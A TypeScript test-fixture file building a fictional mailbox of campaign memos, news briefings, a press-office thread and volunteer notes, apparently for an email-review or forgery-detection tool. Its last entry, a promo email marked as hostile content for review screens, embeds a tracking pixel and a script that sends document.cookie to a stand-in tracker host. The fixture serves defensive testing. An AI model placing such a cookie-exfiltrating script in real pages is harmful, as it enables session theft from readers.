// The letters of the demo dump: Alex Martin's mailbox at campaign.example, late January to end of
// March 2024. Short texts, varied senders; forgeries are made from these in demo-messages.ts.
import { MAILBOX, PLATFORMS, messageIdOf, type Letter, type Platform } from './letters.ts';
import { alternativeBody, makePdf, mixedBody, plainBody, toCrlf } from './message-text.ts';

const ALEX = `Alex Martin <${MAILBOX.address}>`;

function note(seed: string, platform: Platform, from: string, iso: string, subject: string, text: string): Letter {
  return { seed: `demo/${seed}`, platform, from, to: ALEX, date: new Date(iso), subject, mime: plainBody(toCrlf(text)) };
}

const briefing = (n: number, iso: string, lead: string): Letter =>
  note(
    `briefing-${n}`,
    PLATFORMS.news,
    'Example News Briefing <briefing@example-news.org>',
    iso,
    `Morning briefing: ${lead}`,
    `Good morning.\n\nToday: ${lead}.\n\nRead the full briefing on the website. You receive this e-mail\nbecause you subscribed to the Example News morning briefing.\n`,
  );

export const newsBriefings: Letter[] = [
  briefing(1, '2024-01-22T06:00:04Z', 'parliament returns, budget talks resume'),
  briefing(2, '2024-01-29T06:00:03Z', 'the transport strike enters its second week'),
  briefing(3, '2024-02-05T06:00:05Z', 'campaign spending rules under review'),
  briefing(4, '2024-02-12T06:00:02Z', 'a new poll puts the race at a tie'),
  briefing(5, '2024-02-19T06:00:06Z', 'the procurement inquiry opens'),
  briefing(6, '2024-03-04T06:00:03Z', 'who funds the regional campaigns'),
];

const memo = (n: number, iso: string, from: string, subject: string, text: string): Letter =>
  note(`memo-${n}`, PLATFORMS.campaign, from, iso, subject, text);
const SAM = 'Sam Okafor <s.okafor@campaign.example>';
const LENA = 'Lena Fischer <l.fischer@campaign.example>';

export const campaignMemos: Letter[] = [
  memo(
    1,
    '2024-01-23T08:41:12Z',
    SAM,
    'Budget for February',
    `Alex,\n\nThe February budget is approved: 12,000 euros for events, 4,500 for\nprint. Invoices to Lena as usual.\n\nSam\n`,
  ),
  memo(
    2,
    '2024-01-30T16:05:48Z',
    LENA,
    'Press lines for the debate',
    `Hi Alex,\n\nThe agreed lines for Thursday: jobs, transport, no comment on the\npoll. Please keep the answers under a minute.\n\nLena\n`,
  ),
  memo(
    3,
    '2024-02-06T10:22:31Z',
    SAM,
    'Donor dinner guest list',
    `Alex,\n\nThe guest list for the 24th is closed at 60. The seating plan follows\nnext week.\n\nSam\n`,
  ),
  memo(
    4,
    '2024-02-14T13:17:09Z',
    LENA,
    'Office keys',
    `Hi Alex,\n\nThe locks at the east office change on Friday. Collect your new key\nfrom reception.\n\nLena\n`,
  ),
  {
    ...memo(5, '2024-02-20T09:58:40Z', SAM, 'Q4 filing, final version', ''),
    mime: mixedBody(
      toCrlf(`Alex,\n\nThe final Q4 filing as submitted to the register is attached.\n\nSam\n`),
      {
        filename: 'q4-2023-filing.pdf',
        contentType: 'application/pdf',
        data: makePdf('Campaign filing Q4 2023', 'Income 212,400 EUR; expenditure 198,950 EUR; loans 20,000 EUR'),
      },
      '------------cmpQ4filing20240220',
    ),
  },
  memo(
    6,
    '2024-02-27T17:44:02Z',
    SAM,
    'Canvass results, week 8',
    `Alex,\n\nWeek 8: 3,120 doors, 410 conversations, 95 new volunteers. East\ndistrict best again.\n\nSam\n`,
  ),
];

// A thread between the news desk and the ministry's press office, with Alex in copy.
const KELLER = 'Maria Keller <m.keller@example-news.org>';
const PRESS = 'Press Office <press@ministry.example>';
const threadSubject = 'Questions on the procurement review';
const t1: Letter = {
  ...note(
    'thread-1',
    PLATFORMS.news,
    KELLER,
    '2024-02-27T11:03:27Z',
    threadSubject,
    `Dear Press Office,\n\nWe are preparing a story on the procurement review. When will the\nreview be published, and who leads it?\n\nKind regards,\nMaria Keller\n`,
  ),
  to: PRESS,
  cc: ALEX,
};
const t2: Letter = {
  ...note(
    'thread-2',
    PLATFORMS.ministry,
    PRESS,
    '2024-02-28T09:15:52Z',
    `Re: ${threadSubject}`,
    `Dear Ms Keller,\n\nThe review will be published in March. It is led by the Inspector\nGeneral's office.\n\nPress Office\n`,
  ),
  to: KELLER,
  cc: ALEX,
  inReplyTo: messageIdOf(t1),
  references: [messageIdOf(t1)],
};
const t3: Letter = {
  ...note(
    'thread-3',
    PLATFORMS.news,
    KELLER,
    '2024-02-28T14:40:16Z',
    `Re: ${threadSubject}`,
    `Dear Press Office,\n\nThank you. Does the review cover contracts awarded to campaign\nsuppliers?\n\nKind regards,\nMaria Keller\n`,
  ),
  to: PRESS,
  cc: ALEX,
  inReplyTo: messageIdOf(t2),
  references: [messageIdOf(t1), messageIdOf(t2)],
};
const t4: Letter = {
  ...note(
    'thread-4',
    PLATFORMS.ministry,
    PRESS,
    '2024-03-01T10:02:33Z',
    `Re: ${threadSubject}`,
    `Dear Ms Keller,\n\nYes, all contracts of the 2023 rounds are covered.\n\nPress Office\n`,
  ),
  to: KELLER,
  cc: ALEX,
  inReplyTo: messageIdOf(t3),
  references: [messageIdOf(t1), messageIdOf(t2), messageIdOf(t3)],
};
export const thread = { t1, t2, t3, t4 };

const CHRIS = 'Chris Novak <chris.novak@freemail.example>';
const PAT = 'Pat Lindqvist <pat.l@freemail.example>';
const volunteer = (n: number, from: string, iso: string, subject: string, text: string): Letter =>
  note(`volunteer-${n}`, PLATFORMS.freemail, from, iso, subject, text);

export const volunteerNotes: Letter[] = [
  volunteer(1, CHRIS, '2024-01-24T19:12:40Z', 'Saturday leaflets', `Hi Alex,\n\nI can take the north district on Saturday.\n\nChris\n`),
  volunteer(2, PAT, '2024-02-01T07:55:03Z', 'Car for the rally', `Hello,\n\nI can drive four people to the rally on the 10th.\n\nPat\n`),
  volunteer(3, CHRIS, '2024-02-09T21:30:17Z', 'Posters are wet', `Hi Alex,\n\nThe posters in the van got wet. Twenty are lost.\n\nChris\n`),
  volunteer(4, PAT, '2024-02-16T12:08:55Z', 'Phone bank Tuesday', `Hello,\n\nCount me in for the phone bank on Tuesday, 6 to 9.\n\nPat\n`),
  volunteer(
    5,
    CHRIS,
    '2024-03-05T18:47:21Z',
    'New volunteers from the school',
    `Hi Alex,\n\nFive parents from the school want to help. Shall I add them?\n\nChris\n`,
  ),
  volunteer(6, PAT, '2024-03-19T08:26:44Z', 'Holiday next week', `Hello,\n\nI am away next week, back on the 1st.\n\nPat\n`),
  volunteer(7, CHRIS, '2024-03-26T20:04:10Z', 'Keys returned', `Hi Alex,\n\nI left the van keys with reception.\n\nChris\n`),
];

/** Hostile content for the review screens: a remote tracking pixel and a script. */
export const promoHtml: Letter = {
  seed: 'demo/promo',
  platform: PLATFORMS.promo,
  from: 'Print Deals <offers@promo-mailer.example>',
  to: ALEX,
  date: new Date('2024-03-11T14:30:00Z'),
  subject: 'Spring offer: 40% off campaign posters',
  extraHeaders: ['List-Unsubscribe: <https://promo-mailer.example/u/8841>'],
  mime: alternativeBody(
    toCrlf(`Spring offer: 40% off campaign posters until 31 March.\n`),
    toCrlf(`<!DOCTYPE html>
<html><head><title>Spring offer</title></head>
<body>
<h1>Spring offer: 40% off campaign posters</h1>
<p>Order before 31 March. <a href="https://promo-mailer.example/c/8841">See the offer</a></p>
<img src="https://tracker.example/p.gif" width="1" height="1" alt="">
<script>fetch('https://tracker.example/c?d=' + encodeURIComponent(document.cookie));</script>
</body></html>
`),
    '=_promo_5f1e',
  ),
};
